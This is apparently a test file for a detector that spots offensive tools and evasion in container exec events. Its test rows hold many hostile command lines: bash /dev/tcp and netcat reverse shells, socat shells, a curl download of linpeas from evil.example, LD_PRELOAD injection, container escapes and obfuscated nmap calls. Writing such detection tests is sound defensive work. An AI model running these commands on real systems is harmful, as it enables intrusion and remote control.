import { readFileSync } from 'node:fs'
import { gunzipSync } from 'node:zlib'
import t from 'tap'
import { decodeEvent } from '../../src/correlator/exec-event.js'
import { KnownError } from '../../src/errors.js'
import { MAX_WORK, readCommandLine } from '../../src/policy/command-line.js'
import { splitShell } from '../../src/policy/command-shell.js'
import { MAX_WORDS, splitArguments } from '../../src/policy/command-words.js'
import { originOf } from '../../src/policy/exec-origin.js'
import {
  compileToolCatalogue,
  compileToolRules,
  type ExecFacts,
  type ExecSighting,
  inspectExec,
  parseToolCatalogue,
  type ToolCatalogue,
} from '../../src/policy/index.js'
import type { ToolProfile } from '../../src/policy/tool-catalogue-document.js'
import { problemOfExpression } from '../../src/policy/tool-expression.js'
import { isTold } from '../../src/policy/tool-tell.js'
import { assertProperty, fc } from '../support/properties.js'

const FIXTURES = new URL('../fixtures/', import.meta.url)
const FILES = { wrappers: 'command-wrappers.json', tells: 'argument-tells.json', collisions: 'name-collisions.json' }

const tools = parseToolCatalogue({ data: readShipped('offensive-tools.json'), file: 'offensive-tools.json' })
const rules = compileToolRules({
  wrappers: { data: readShipped(FILES.wrappers), file: FILES.wrappers },
  tells: { data: readShipped(FILES.tells), file: FILES.tells },
  collisions: { data: readShipped(FILES.collisions), file: FILES.collisions },
})
const standard = compiled('default')
const strict = compiled('strict')

function readShipped(name: string): unknown {
  return JSON.parse(readFileSync(new URL(`../../policies/${name}`, import.meta.url), 'utf8'))
}

function compiled(profile: ToolProfile, remove: readonly string[] = []): ToolCatalogue {
  return compileToolCatalogue(tools, { profile, add: [], remove: [...remove] }, rules)
}

function factsOf(binary: string, args = '', changes: Partial<ExecFacts> = {}): ExecFacts {
  const rest = { parentBinary: undefined, hardLinks: undefined, isInInitTree: undefined, image: undefined }
  return { binary, arguments: args === '' ? undefined : args, isExecProbe: false, ...rest, ...changes }
}

function inspect(binary: string, args = '', catalogue = standard): readonly ExecSighting[] {
  return inspectExec(catalogue, factsOf(binary, args))
}

function programs(binary: string, args: string): readonly string[] {
  return readCommandLine(rules.wrappers, binary, args).commands.map(({ program }) => program)
}

/** `kind tool matchedOn confidence` of the first sighting; '' of none. */
function summary([first]: readonly ExecSighting[]): string {
  return first === undefined ? '' : `${first.kind} ${first.tool?.tool} ${first.matchedOn} ${first.confidence}`
}

interface EvasionCase {
  readonly id: string
  readonly process: {
    readonly binary: string
    readonly arguments: string
    readonly in_init_tree?: boolean
    readonly binary_properties?: { readonly file: { readonly inode: { readonly links: number } } }
  }
  readonly parent?: { readonly binary: string }
  readonly pod?: { readonly maybe_exec_probe: boolean }
  readonly expect: {
    readonly finding: string | null
    readonly tool?: string | null
    readonly matchedOn?: string
    readonly confidence?: string
  }
}

t.test('every recorded disguise is seen through, in the default profile and in the strict one', async t => {
  const rows: readonly EvasionCase[] = JSON.parse(readFileSync(new URL('runtime/evasion-cases.json', FIXTURES), 'utf8'))
  t.equal(rows.length, 35)
  for (const { id, process, parent, pod, expect } of rows) {
    const facts = factsOf(process.binary, process.arguments, {
      parentBinary: parent?.binary,
      hardLinks: process.binary_properties?.file.inode.links,
      isInInitTree: process.in_init_tree,
      isExecProbe: pod?.maybe_exec_probe === true,
    })
    const wanted =
      expect.finding === null
        ? ''
        : `${expect.finding} ${expect.tool?.replace('?', '')} ${expect.matchedOn} ${expect.confidence}`.replace(
            ' null ',
            ' undefined ',
          )
    t.equal(summary(inspectExec(standard, facts)), wanted, id)
    // There the package manager is a tool itself, and comes first.
    if (id === 'apt') t.equal(inspectExec(strict, facts)[1]?.kind, 'tool-install')
    else t.equal(summary(inspectExec(strict, facts)), wanted, `${id}, strict`)
  }
})

t.test('the recorded events hold four tools, and each is found', async t => {
  const lines = gunzipSync(readFileSync(new URL('tetragon/exec-1k.jsonl.gz', FIXTURES)))
    .toString('utf8')
    .split('\n')
  const found = new Set<string>()
  for (const line of lines) {
    const decoded = decodeEvent(line)
    if (decoded.type !== 'exec' || decoded.event.docker === undefined) continue
    const { event } = decoded
    const facts = factsOf(event.binary, event.arguments, { isInInitTree: event.isInInitTree })
    for (const each of inspectExec(standard, facts)) found.add(`${each.kind}/${each.code} ${each.matchedOn}`)
  }
  t.strictSame([...found].sort(), [
    'offensive-tool/amicontained launcher.command',
    'offensive-tool/netcat binary.basename',
    'offensive-tool/responder interpreter.script',
    'offensive-tool/tcpdump binary.basename',
  ])
})

t.test('the words of Tetragon are told apart as far as they can be', async t => {
  const rows: readonly (readonly [string, readonly string[]])[] = [
    ['', []],
    ['-a b', ['-a', 'b']],
    ['-c "a b" c', ['-c', 'a b', 'c']],
    [' "{print $1}"', ['', '{print $1}']],
    ['a  b', ['a', '', 'b']],
    ['say "hi"', ['say', '"hi"']],
    ['"open ended', ['"open', 'ended']],
    ['x"y z"', ['x"y', 'z"']],
    ['a\nb\tc', ['a\nb\tc']],
    ['-c "echo "hi" && nmap x"', ['-c', 'echo "hi', '&&', 'nmap', 'x"']],
  ]
  for (const [text, expected] of rows) {
    const words = splitArguments(text, { left: 1_000 })
    t.strictSame(
      words.map(word => word.text),
      expected,
      text,
    )
  }
  assertProperty(
    fc.property(fc.array(fc.stringMatching(/^[a-z/.=-]{0,8}( [a-z]{1,4})?$/), { maxLength: 8 }), argv => {
      const joined = argv.map(each => (each.includes(' ') ? `"${each}"` : each)).join(' ')
      const words = splitArguments(joined, { left: 10_000 }).map(({ text }) => text)
      // A last empty element leaves nothing behind but its blank.
      while (words.at(-1) === '') words.pop()
      const expected = [...argv]
      while (expected.at(-1) === '') expected.pop()
      return JSON.stringify(words) === JSON.stringify(expected)
    }),
  )
})

t.test('the commands of a shell text', async t => {
  const rows: readonly (readonly [string, readonly string[]])[] = [
    ['a b', ['a b']],
    ['a && b || c; d | e & f\ng', ['a', 'b', 'c', 'd', 'e', 'f', 'g']],
    ['(a; b) { c; }', ['a', 'b', 'c']],
    ['X=1 Y="2 3" a', ['a']],
    ['if a; then b; else c; fi', ['a', 'b', 'c']],
    ['for f in *.log; do gzip -9 "$f"; done', ['gzip -9 $f']],
    ['while ! a; do b; done', ['a', 'b']],
    ['case $x in y) a;; esac', ['a']],
    ['a > /tmp/x 2>&1 < y', ['a']],
    ['a &> log && b >&2 c', ['a', 'b c']],
    ['a "$(b c)" `d`', ['b c', 'd', 'a  ']],
    ['bash <(curl x)', ['curl x', 'bash ']],
    ['a \'b; c\' "d | e"', ['a b; c d | e']],
    ['a \\; b # c; d\ne', ['a ; b', 'e']],
    ["n'm'ap x", ['nmap x']],
    ['"nm"ap', ['nmap']],
    ['n\\map', ['nmap']],
    ['a \\\nb', ['a b']],
    ["a $'b'", ['a b']],
    ["$'\\U0000006emap' x", ['nmap x']],
    ["$'\\UFFFFFFFFnmap'", ['nmap']],
    ['A[0]=1 nmap x', ['nmap x']],
    ['noglob nmap x', ['nmap x']],
    ['a "open', ['a open']],
    ["a 'open", ['a open']],
    [';;&|', []],
    ['', []],
  ]
  for (const [text, expected] of rows) {
    const commands = splitShell(text, 64, { left: 10_000 })
    t.strictSame(
      commands.map(({ words }) => words.join(' ')),
      expected,
      text,
    )
  }
})

t.test('wrappers are taken off, one after the other', async t => {
  const rows: readonly (readonly [string, string, string, string?])[] = [
    ['/usr/bin/env', '-i A=1 -u B nmap x', 'nmap'],
    ['/usr/bin/env', '-S "nmap -v"', 'nmap'],
    ['/usr/bin/timeout', '-k 5 -s KILL 30 nmap', 'nmap'],
    ['/usr/bin/timeout', '--signal=9 1m nmap', 'nmap'],
    ['/usr/bin/nice', '-n 19 nmap', 'nmap'],
    ['/usr/bin/nohup', '/tmp/x/nmap', '/tmp/x/nmap'],
    ['/usr/bin/sudo', '-u root -- nmap', 'nmap'],
    ['/bin/su', 'root -c "nmap x"', 'nmap'],
    ['/bin/su', '- root', '/bin/su'],
    ['/usr/bin/xargs', '-n 1 -I {} nmap {}', 'nmap'],
    ['/usr/bin/strace', '-f -e trace=open -o /tmp/o nmap', 'nmap'],
    ['/usr/bin/stdbuf', '-oL nmap', 'nmap'],
    ['/usr/bin/find', '. -name x -exec nmap {} ;', 'nmap'],
    ['/usr/bin/watch', '-n 1 nmap x', 'nmap'],
    ['/usr/bin/screen', '-dmS x nmap 1.2.3.4', 'nmap'],
    ['/usr/bin/tmux', 'new -d -s x "nmap x"', 'nmap'],
    ['/usr/bin/tmux', 'ls', '/usr/bin/tmux'],
    ['/usr/bin/node', '/usr/lib/node_modules/npm/bin/npx-cli.js localtunnel', 'localtunnel'],
    ['/bin/sh', '-c "source /tmp/linpeas.sh"', '/tmp/linpeas.sh'],
    ['/usr/bin/flock', '/tmp/l nmap', 'nmap'],
    ['/usr/bin/nsenter', '-t 1 -m nmap', 'nmap'],
    ['/usr/sbin/chroot', '/host nmap', 'nmap'],
    ['/sbin/tini', '-- nmap', 'nmap'],
    ['/bin/gosu', 'nobody nmap', 'nmap'],
    ['/lib64/ld-linux-x86-64.so.2', '--library-path /lib /opt/nmap', '/opt/nmap'],
    ['/lib/ld-musl-x86_64.so.1', '/opt/nmap', '/opt/nmap'],
    ['/usr/bin/qemu-aarch64-static', '/opt/nmap', '/opt/nmap'],
    ['/bin/busybox', 'nmap x', 'nmap'],
    ['/bin/busybox', 'sh -c "nmap x"', 'nmap'],
    ['/bin/sh', '-c nmap 1.2.3.4', 'nmap'],
    ['/bin/bash', '-lc "nmap x"', 'nmap'],
    ['/bin/bash', '--norc -x -c "exec nmap x"', 'nmap'],
    ['/bin/bash', '-o pipefail -c "nmap x"', 'nmap'],
    ['/bin/bash', '-x /tmp/linpeas.sh -a', '/tmp/linpeas.sh'],
    ['/bin/sh', '-c "su -c \'timeout 5 nmap x\'"', 'nmap'],
    ['/bin/sh', '-c "eval nmap x"', 'nmap'],
    ['/bin/sh', '-c "A=1 command nmap x"', 'nmap'],
    ['/usr/bin/python3.12', '-u -m sqlmap', 'sqlmap'],
    ['/usr/bin/python3', '-msqlmap', 'sqlmap'],
    ['/usr/bin/python3', '-Wignore -um sqlmap', 'sqlmap'],
    ['/usr/bin/perl5.36', '-w /x/nikto.pl', '/x/nikto.pl'],
    ['/usr/bin/ruby', '-r json /x/wpscan', '/x/wpscan'],
    ['/usr/bin/node', '--require x /x/tool.js', '/x/tool.js'],
    ['/usr/bin/php8.2', '-d a=b -f /x/weevely.php', '/x/weevely.php'],
    ['/usr/bin/java', '-Xmx1g -cp a:b -jar /x/ysoserial.jar', '/x/ysoserial.jar'],
    ['/usr/bin/deno', 'run /x/tool.ts', '/x/tool.ts'],
    ['/usr/bin/npx', '--yes localtunnel@2 --port 80', 'localtunnel@2'],
    ['/usr/bin/npm', 'exec -- localtunnel', 'localtunnel'],
    ['/usr/bin/uv', 'tool run netexec', 'netexec'],
    ['/usr/bin/uvx', '--from x netexec', 'netexec'],
    ['/usr/local/go/bin/go', 'run github.com/x/nmap@latest', 'github.com/x/nmap@latest'],
    ['/usr/local/go/bin/go', 'build ./...', '/usr/local/go/bin/go'],
    ['/usr/bin/python3', '-c "import nmap"', '/usr/bin/python3'],
    ['/bin/sh', '', '/bin/sh'],
    ['/tmp/run.sh', '/tmp/run.sh nmap', '/tmp/run.sh'],
  ]
  for (const [binary, args, last] of rows) t.equal(programs(binary, args).at(-1), last, `${binary} ${args}`)
})

t.test('tools are found behind their wrappers, and what led there is told', async t => {
  const rows: readonly (readonly [string, string, string])[] = [
    ['/bin/sh', '-c "cd /tmp; nohup ./xmrig -o p &"', 'offensive-tool xmrig shell>launcher.command medium'],
    ['/bin/sh', '/tmp/linpeas.sh', 'offensive-tool linpeas interpreter.script high'],
    ['/bin/sh', '-c "sh -c \'nmap x\'"', 'offensive-tool nmap shell.command medium'],
    ['/usr/bin/proxychains4', '-q nmap -sT 10.0.0.1', 'offensive-tool proxychains binary.basename high'],
    ['/bin/busybox', 'nc -e /bin/sh 1.2.3.4 9', 'offensive-tool netcat multicall.applet high'],
    ['/usr/bin/npx', '@scope/localtunnel@2.0', 'offensive-tool localtunnel pkg-runner medium'],
    ['/usr/bin/socat', 'TCP:1.2.3.4:9 EXEC:/bin/sh', 'offensive-tool socat binary.basename+arg-tell high'],
    ['/bin/bash', '-c "bash -i >& /dev/tcp/1.2.3.4/9 0>&1"', 'offensive-tool reverse-shell arg-tell medium'],
    [
      '/bin/sh',
      '-c "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 1.2.3.4 9"',
      'offensive-tool netcat shell.command low',
    ],
    [
      '/usr/bin/python3',
      '-c "import socket,subprocess,os;s=socket.socket()"',
      'offensive-tool reverse-shell arg-tell medium',
    ],
    ['/usr/bin/nsenter', '-t 1 -m -u -n -i sh', 'offensive-tool container-escape arg-tell medium'],
    ['/app/worker', '--donate-level=1 -o x', 'offensive-tool xmrig arg-tell medium'],
    ['/usr/bin/pip3', 'install impacket==0.12', 'tool-install impacket-wrapper argument medium'],
    ['/usr/bin/python3', '-m pip install sqlmap', 'tool-install sqlmap argument medium'],
    ['/sbin/apk', 'add --no-cache nmap', 'tool-install nmap argument medium'],
    ['/usr/bin/dpkg', '-i /tmp/nmap_7.94_amd64.deb', 'tool-install nmap argument medium'],
    ['/usr/bin/npm', 'i -g localtunnel', ''],
    ['/usr/bin/curl', '-sLo /tmp/x https://evil.example/linpeas.sh?x=1', 'tool-staging linpeas argument medium'],
    ['/usr/bin/wget', 'https://nmap.org/dist/nmap-7.94.tar.bz2', 'tool-staging nmap argument medium'],
    ['/usr/bin/git', 'clone https://github.com/rebootuser/LinEnum.git', 'tool-staging linenum argument medium'],
    ['/bin/sh', '-c "command -v nmap"', 'tool-enumeration nmap argument low'],
    ['/memfd:x (deleted)', '', 'fileless-exec undefined path high'],
    ['//dev//shm/./x', '', 'fileless-exec undefined path medium'],
    ['/bin/bash', '/dev/fd/63', 'fileless-exec undefined interpreter.script low'],
    ['/usr/bin/app (deleted)', '', 'unlinked-exec undefined path medium'],
    ['/memfd:xmrig (deleted)', '', 'offensive-tool xmrig binary.basename high'],
  ]
  for (const [binary, args, expected] of rows) {
    const sightings = inspect(binary, args)
    const surest = expected.includes('netcat shell.command low')
    // The fifo is surer than the name of nc.
    if (surest) t.equal(summary(sightings), 'offensive-tool reverse-shell arg-tell medium', args)
    else t.equal(summary(sightings), expected, `${binary} ${args}`)
  }
  const [both] = inspect('/usr/bin/proxychains4', '-q nmap -sT 10.0.0.1')
  t.same(both?.tool?.alsoTools, ['nmap'])
  const [nested] = inspect('/usr/bin/env', 'timeout 5 python3 /x/sqlmap.py')
  t.same(nested?.tool?.unwrapped, ['env (launcher)', 'timeout (launcher)', 'python3 (interpreter)'])
  t.equal(nested?.matchedOn, 'launcher>interpreter.script')
})

t.test('disguises beyond the recorded ones are seen through', async t => {
  const rows: readonly (readonly [string, string, string])[] = [
    // The options of a shell, as scripts and manifests really write them.
    ['/bin/bash', '-eo pipefail -c "nmap x"', 'offensive-tool nmap shell.command medium'],
    ['/bin/bash', '-Eeuo pipefail -c "nmap x"', 'offensive-tool nmap shell.command medium'],
    ['/bin/bash', '-ceo pipefail "nmap x"', 'offensive-tool nmap shell.command medium'],
    ['/bin/bash', '-C -c "nmap x"', 'offensive-tool nmap shell.command medium'],
    ['/usr/bin/fish', '--command="nmap x"', 'offensive-tool nmap shell.command medium'],
    ['/usr/bin/pwsh', '-NonInteractive -File /x/linpeas.ps1', 'offensive-tool linpeas interpreter.script high'],
    // Blanks without blanks, letters without letters.
    ['/bin/sh', '-c nmap@{IFS}-sS@{IFS%??}x'.replaceAll('@', '$'), 'offensive-tool nmap shell.command medium'],
    ['/bin/sh', '-c "$IFS$9nmap$IFS$9x"', 'offensive-tool nmap shell.command medium'],
    ['/bin/bash', '-c {nmap,-sS,x}', 'offensive-tool nmap shell.command medium'],
    ['/bin/bash', '-c "$\'\\x6e\\155\\u0061p\' x"', 'offensive-tool nmap shell.command medium'],
    ['/bin/sh', '-c ". /tmp/linpeas.sh"', 'offensive-tool linpeas shell>interpreter.script medium'],
    // The command is behind options of the launcher, and its own options are not the launcher's.
    ['/usr/bin/env', 'nmap -S 1.2.3.4 x', 'offensive-tool nmap launcher.command high'],
    ['/usr/bin/env', '"-vS nmap -v" /x/run', 'offensive-tool nmap launcher.command medium'],
    ['/usr/bin/env', '-Snmap', 'offensive-tool nmap launcher.command medium'],
    ['/usr/bin/script', '-qc "nmap x" /dev/null', 'offensive-tool nmap launcher.command medium'],
    ['/bin/su', '-lc "nmap x" root', 'offensive-tool nmap launcher.command medium'],
    ['/usr/bin/flock', '-n /tmp/l -c "nmap x"', 'offensive-tool nmap launcher.command medium'],
    ['/usr/sbin/runuser', '-u nobody -- nmap x', 'offensive-tool nmap launcher.command high'],
    ['/usr/sbin/runuser', '- root -c "nmap x"', 'offensive-tool nmap launcher.command medium'],
    ['/usr/bin/setsid', '-f nmap x', 'offensive-tool nmap launcher.command high'],
    ['/usr/bin/setpriv', '--reuid 1000 --clear-groups nmap', 'offensive-tool nmap launcher.command high'],
    ['/sbin/capsh', '--print -- -c "nmap x"', 'offensive-tool nmap launcher.command medium'],
    ['/usr/bin/cpulimit', '-l 50 -- /tmp/xmrig', 'offensive-tool xmrig launcher.command high'],
    ['/usr/bin/rlwrap', '-cAr nc -lvnp 4444 -e /bin/sh', 'offensive-tool netcat launcher.command high'],
    ['/sbin/ip', 'netns exec blue nmap x', 'offensive-tool nmap launcher.command high'],
    ['/sbin/start-stop-daemon', '-S -b -x /tmp/xmrig -- -o p', 'offensive-tool xmrig launcher.command high'],
    ['/usr/bin/find', '. -exec true {} ; -exec nmap {} ;', 'offensive-tool nmap launcher.command high'],
    ['/usr/bin/xargs', '-0 -P4 -I{} sh -c "nmap {}"', 'offensive-tool nmap launcher>shell.command medium'],
    ['/usr/sbin/chroot', '--userspec=0:0 /host sh -c "nmap x"', 'offensive-tool nmap launcher>shell.command medium'],
    ['/bin/busybox-x86_64', 'nc -e /bin/sh 1.2.3.4 9', 'offensive-tool netcat multicall.applet high'],
    ['/usr/bin/python3', '/opt/sqlmap/__main__.py', 'offensive-tool sqlmap interpreter.script high'],
    ['/usr/bin/python3.12 (deleted)', '/x/sqlmap.py', 'offensive-tool sqlmap interpreter.script high'],
    ['/usr/bin/perl', '-I /x /x/nikto.pl', 'offensive-tool nikto interpreter.script high'],
    ['/usr/bin/dotnet', '/x/SharpHound.dll', 'offensive-tool sharphound interpreter.script high'],
    // Names.
    ['/tmp/.xmrig', '', 'offensive-tool xmrig binary.basename high'],
    ['/tmp/..nmap..', '', 'offensive-tool nmap binary.basename high'],
    ['/tmp/nmap~', '', 'offensive-tool nmap binary.basename high'],
    ['/tmp/NMAP.EXE', '', 'offensive-tool nmap binary.basename high'],
    ['/tmp/nmap-7.94.bak', '', 'offensive-tool nmap binary.basename high'],
    // Arguments, of a program that may have any name where it is not named here.
    ['/usr/bin/gawk', '"BEGIN{s="/inet/tcp/0/1.2.3.4/9"}"', 'offensive-tool reverse-shell arg-tell medium'],
    [
      '/usr/bin/node',
      '-e "require(\'child_process\');new net.Socket()"',
      'offensive-tool reverse-shell arg-tell medium',
    ],
    ['/usr/bin/lua5.4', '-e "s=require(\'socket\');os.execute()"', 'offensive-tool reverse-shell arg-tell medium'],
    ['/bin/zsh', '-c "zmodload zsh/net/tcp"', 'offensive-tool reverse-shell arg-tell medium'],
    ['/bin/sh', '-c "telnet h 9 | /bin/sh | telnet h 8"', 'offensive-tool reverse-shell arg-tell medium'],
    ['/tmp/x', 'EXEC:/bin/sh TCP:1.2.3.4:9', 'offensive-tool socat arg-tell medium'],
    ['/tmp/x', '-e /bin/sh 1.2.3.4 4444', 'offensive-tool netcat arg-tell medium'],
    ['/tmp/x', '-lvp 4444 -e /bin/bash', 'offensive-tool netcat arg-tell medium'],
    ['/tmp/x', '--sh-exec id 1.2.3.4', 'offensive-tool netcat arg-tell medium'],
    ['/usr/bin/env', 'LD_PRELOAD=/tmp/x.so /bin/id', 'offensive-tool library-preload arg-tell medium'],
    ['/lib64/ld-linux-x86-64.so.2', '--preload /tmp/x /bin/id', 'offensive-tool library-preload arg-tell medium'],
    ['/proc/1/root/dev/shm/x', '', 'fileless-exec undefined path medium'],
    // And their innocent neighbours.
    ['/bin/bash', '-s nmap', ''],
    ['/bin/busybox', '--list', ''],
    ['/usr/bin/xterm', '-e /bin/bash', ''],
    ['/usr/bin/env', 'LD_PRELOAD=/usr/lib/libjemalloc.so /app', ''],
    ['/bin/sh', '-c "LD_PRELOAD=/usr/lib/libjemalloc.so exec /app"', ''],
    ['/bin/sh', '-c "IFS=, read -r a b; echo $IFS"', ''],
    ['/usr/bin/awk', '"{print $1}"', ''],
    ['/usr/bin/start-stop-daemon', '--start --exec /usr/sbin/sshd -- -D', ''],
  ]
  for (const [binary, args, expected] of rows) t.equal(summary(inspect(binary, args)), expected, `${binary} ${args}`)
})

t.test('three hundred made-up disguises, one by one', async t => {
  const rows: readonly (readonly [string, string, string, string])[] = JSON.parse(
    readFileSync(new URL('runtime/disguises.json', FIXTURES), 'utf8'),
  )
  t.ok(rows.length > 300)
  for (const [binary, args, tool, matchedOn] of rows) {
    const found = inspect(binary, args).find(({ kind }) => kind === 'offensive-tool')
    t.strictSame([found?.code, found?.matchedOn], [tool, matchedOn], `${binary} ${args}`)
  }
  const page = readFileSync(new URL('../../docs/detection.md', import.meta.url), 'utf8')
  t.match(page, `so do ${rows.length} further ones`)
  const innocent: readonly (readonly [string, string])[] = [
    ['/usr/bin/rsync', '-avze ssh a b:'],
    ['/usr/bin/tar', '-I "zstd -T0" -cf nmap.tar nmap'],
    ['/usr/bin/python3', '-m pdb manage.py'],
    ['/usr/bin/python3', '-m coverage run -m pytest'],
    ['/bin/bash', '--rcfile /etc/bash.bashrc -i'],
    ['/usr/bin/npx', '-p typescript tsc'],
    ['/usr/bin/env', '- A=1 /app'],
    ['/usr/bin/caf\u00e9', ''],
    ['/usr/bin/xargs', '-0n1 echo nmap'],
    ['/usr/bin/expect', '-c "spawn ssh x"'],
    ['/usr/bin/curl', '-L http://x -p secret ssh://y'],
    ['/usr/bin/mysqldump', '-u root --all-databases'],
    ['/usr/bin/cat', '/etc/ld.so.preload'],
    ['/sbin/insmod', '/lib/modules/6.1/nvme.ko'],
    ['/usr/bin/myserver', 'start --reverse'],
    ['/usr/bin/nsenter', '--net=/proc/1/ns/net ip addr'],
    ['/usr/bin/useradd', '-m 1000 -a x'],
    ['/usr/bin/python3', '-c "print("import impacket_like")"'],
    // Health checks talk to a port of their own through the shell.
    ['/bin/bash', '-c "exec 3<>/dev/tcp/localhost/9000; echo -e "GET /health HTTP/1.1\\r\\n" >&3; cat <&3"'],
    ['/bin/bash', '-c "exec 3<>/dev/tcp/$HOST/80; while read -r line; do echo "$line"; done <&3"'],
    ['/bin/bash', '-c "{ printf \'HEAD /health HTTP/1.0\' >&0; grep 200; } 0<>/dev/tcp/localhost/9000"'],
    ['/bin/bash', '-c "timeout 2 bash -c "</dev/tcp/db/5432" && exec "$0""'],
    ['/app/bench', '--rate 100 -p 8080 10.0.0.1'],
    ['/usr/bin/python3', '-c "import socket,subprocess; print(1)"'],
    ['/usr/bin/python3', '-c "print(\'nmap x\')"'],
    ['/usr/bin/python3', '-c "subsystem(\'nmap\')"'],
    ['/usr/bin/python3', "-c \"import subprocess; subprocess.run(['ls', 'nmap'])\""],
    ['/usr/bin/awk', '"{print "nmap"}" f'],
    ['/bin/sh', '-c "echo nmap | tee /tmp/x"'],
    ['/bin/sh', '-c "echo nmap | grep -q x || sh /app/run.sh"'],
    ['/bin/sh', '-c "echo $X | base64 -d > /tmp/key"'],
    ['/bin/sh', '-c "echo bm1hcAo= | base64 -d > /tmp/name"'],
    ['/bin/sh', '-c "X=nmap; echo $X; rm -rf $X"'],
    ['/bin/sh', '-c "cat /opt/nmap | wc -l; sh"'],
    ['/bin/sh', '-c "trap - EXIT; trap \'rm -f /tmp/nmap\' TERM"'],
    ['/usr/bin/git', 'clean -fdx nmap/'],
    ['/usr/bin/git', '-c core.pager=less log -- nmap'],
    ['/usr/bin/git', 'checkout feature/nmap'],
    ['/usr/bin/git', 'pull origin nmap'],
    ['/usr/bin/vim', '-c ":e nmap" notes!'],
    ['/usr/bin/make', 'SHELL=/bin/bash -C nmap'],
    ['/usr/bin/psql', '-c "select 1"'],
    ['/usr/bin/ssh', '-o StrictHostKeyChecking=no h uptime'],
    ['/usr/bin/gdb', '-ex run --args /app/server'],
    ['/usr/bin/nix', 'run nixpkgs#hello -- nmap'],
    ['/usr/bin/python3', '-c "import base64; print(base64.b64decode(\'bm1hcA==\'))"'],
    ['/usr/bin/perl', '-e "open(F,"<nmap.txt")"'],
    ['/usr/bin/aws', 's3 cp s3://b/nmap-results.xml /tmp/'],
    ['/bin/sh', '-c "echo "$SCRIPT" | base64 -d | sh"'],
    ['/bin/sh', '-c "grep x <<< "nmap -sS""'],
    ['/bin/sh', '-c "diff <(echo nmap) <(cat x)"'],
    ['/bin/sh', '-c "CMD="java -jar app.jar"; exec $CMD"'],
  ]
  for (const [binary, args] of innocent) t.equal(summary(inspect(binary, args)), '', `${binary} ${args}`)
})

t.test('what a library of a tool is told within an interpreter', async t => {
  const python = '-c "from impacket.smbconnection import SMBConnection"'
  t.equal(summary(inspect('/usr/bin/python3', python)), 'offensive-tool impacket-wrapper arg-tell medium')
  t.equal(summary(inspect('/usr/bin/python3', '-c "from scapy.all import *"')), '')
  t.equal(
    summary(inspect('/usr/bin/python3', '-c "from scapy.all import *"', strict)),
    'offensive-tool scapy arg-tell medium',
  )
  t.equal(summary(inspect('/usr/bin/pwsh', '-c Invoke-Mimikatz')), 'offensive-tool mimikatz arg-tell medium')
  // What it starts does not hide the rest of its code.
  const code = `-c "import os; os.system('id'); pool='stratum+tcp://p:1'"`
  t.equal(summary(inspect('/usr/bin/python3', code)), 'offensive-tool xmrig arg-tell medium')
})

t.test('innocent programs are left alone', async t => {
  const rows: readonly (readonly [string, string, string?])[] = [
    ['/usr/bin/hydra', 'serve all --dev'],
    ['/usr/bin/hydra', '', 'docker.io/oryd/hydra:v2'],
    ['/usr/local/bin/medusa', 'db:migrate'],
    ['/usr/bin/cdk', 'deploy --all'],
    ['/usr/bin/cme', 'check dpkg'],
    ['/bin/nc', '-zv db 5432'],
    ['/bin/nc', '-w 1 localhost 2181'],
    ['/bin/sh', '-c "until nc -z db 5432; do sleep 1; done"'],
    ['/bin/sh', '-c "timeout 1 bash -c \'</dev/tcp/db/5432\'"'],
    ['/bin/echo', 'nmap -sS 10.0.0.0/8'],
    ['/bin/grep', '--rate 5 -p80 10.0.0.1'],
    ['/bin/rm', '-f /tmp/nmap'],
    ['/usr/bin/curl', '-sS http://10.0.0.1/'],
    ['/usr/bin/python3', 'manage.py runserver'],
    ['/usr/bin/python3', '-m http.server 80'],
    ['/usr/bin/apt-get', 'install -y curl git'],
    ['/usr/bin/vim', 'nmap.txt'],
    ['/proc/self/exe', 'init'],
    ['/usr/bin/openssl', 's_client -connect db:5432'],
    ['/usr/bin/socat', '- TCP4:localhost:8080'],
    ['/usr/bin/npm', 'install'],
    ['/usr/sbin/iptables', '-w 5 -W 100000 -S KUBE-SERVICES'],
  ]
  for (const [binary, args, image] of rows) {
    t.equal(summary(inspectExec(standard, factsOf(binary, args, { image }))), '', `${binary} ${args}`)
  }
  const commands = readFileSync(new URL('runtime/debian-commands.txt', FIXTURES), 'utf8').trim().split('\n')
  t.ok(commands.length > 1_000)
  const wrong = commands.filter(
    name =>
      inspect(`/usr/bin/${name}`).length +
        inspect('/bin/sh', `-c "${name} --help"`).length +
        inspect('/usr/bin/env', name).length >
      0,
  )
  t.strictSame(wrong, [], 'no command of a Debian machine')
  const noisy = commands.filter(name => inspect(`/usr/bin/${name}`, '', strict).length > 0)
  const page = readFileSync(new URL('../../docs/detection.md', import.meta.url), 'utf8')
  t.match(page, `of the ${commands.length.toLocaleString('en')} commands of a Debian 12 machine`)
  t.match(page, `and \`strict\` ${noisy.length} (`)
})

t.test('a first word, or an image, does not make arguments innocent that only the tool takes', async t => {
  t.equal(summary(inspect('/x/hydra', 'list ssh -l root -P w -M hosts')), 'offensive-tool hydra binary.basename high')
  t.equal(
    summary(inspect('/x/medusa', 'start -h 10.0.0.5 -u root -P w -M ssh')),
    'offensive-tool medusa binary.basename high',
  )
  const image = 'docker.io/oryd/hydra:v2'
  t.match(
    summary(inspectExec(standard, factsOf('/x/hydra', '-l root -P w ssh://10.0.0.5', { image }))),
    /^offensive-tool/,
  )
  t.equal(summary(inspectExec(standard, factsOf('/usr/bin/hydra', 'migrate sql postgres://u@db/h', { image }))), '')
})

t.test('circumstances raise and lower', async t => {
  const probe = { isExecProbe: true }
  t.equal(summary(inspectExec(standard, factsOf('/bin/nc', '', probe))), '', 'a weak name in a probe')
  t.match(summary(inspectExec(standard, factsOf('/x/masscan', '', probe))), / medium$/)
  t.match(summary(inspectExec(standard, factsOf('/bin/nc', '-e sh 1.2.3.4 9', probe))), / medium$/)
  t.equal(summary(inspectExec(standard, factsOf('/bin/tcpdump', '', { isInInitTree: true }))), '')
  t.match(summary(inspectExec(standard, factsOf('/bin/tcpdump', '', { isInInitTree: false }))), /tcpdump/)
  t.equal(summary(inspectExec(compiled('quiet'), factsOf('/bin/tcpdump', '', { isInInitTree: false }))), '')
  const kubectl = factsOf('/bin/kubectl', 'get pods', { isInInitTree: false })
  t.equal(summary(inspectExec(standard, kubectl)), '', "an administrator's tool")
  const runtime = { parentBinary: '/usr/bin/runc', hardLinks: 0 }
  t.equal(summary(inspectExec(standard, factsOf('/proc/self/fd/6', 'init', runtime))), '')
  t.match(summary(inspectExec(standard, factsOf('/proc/self/fd/6', 'x', runtime))), /^fileless-exec/)
  t.match(summary(inspectExec(standard, factsOf('/usr/bin/edge', '-c net -k key -l h:1'))), /n2n .* medium/)
})

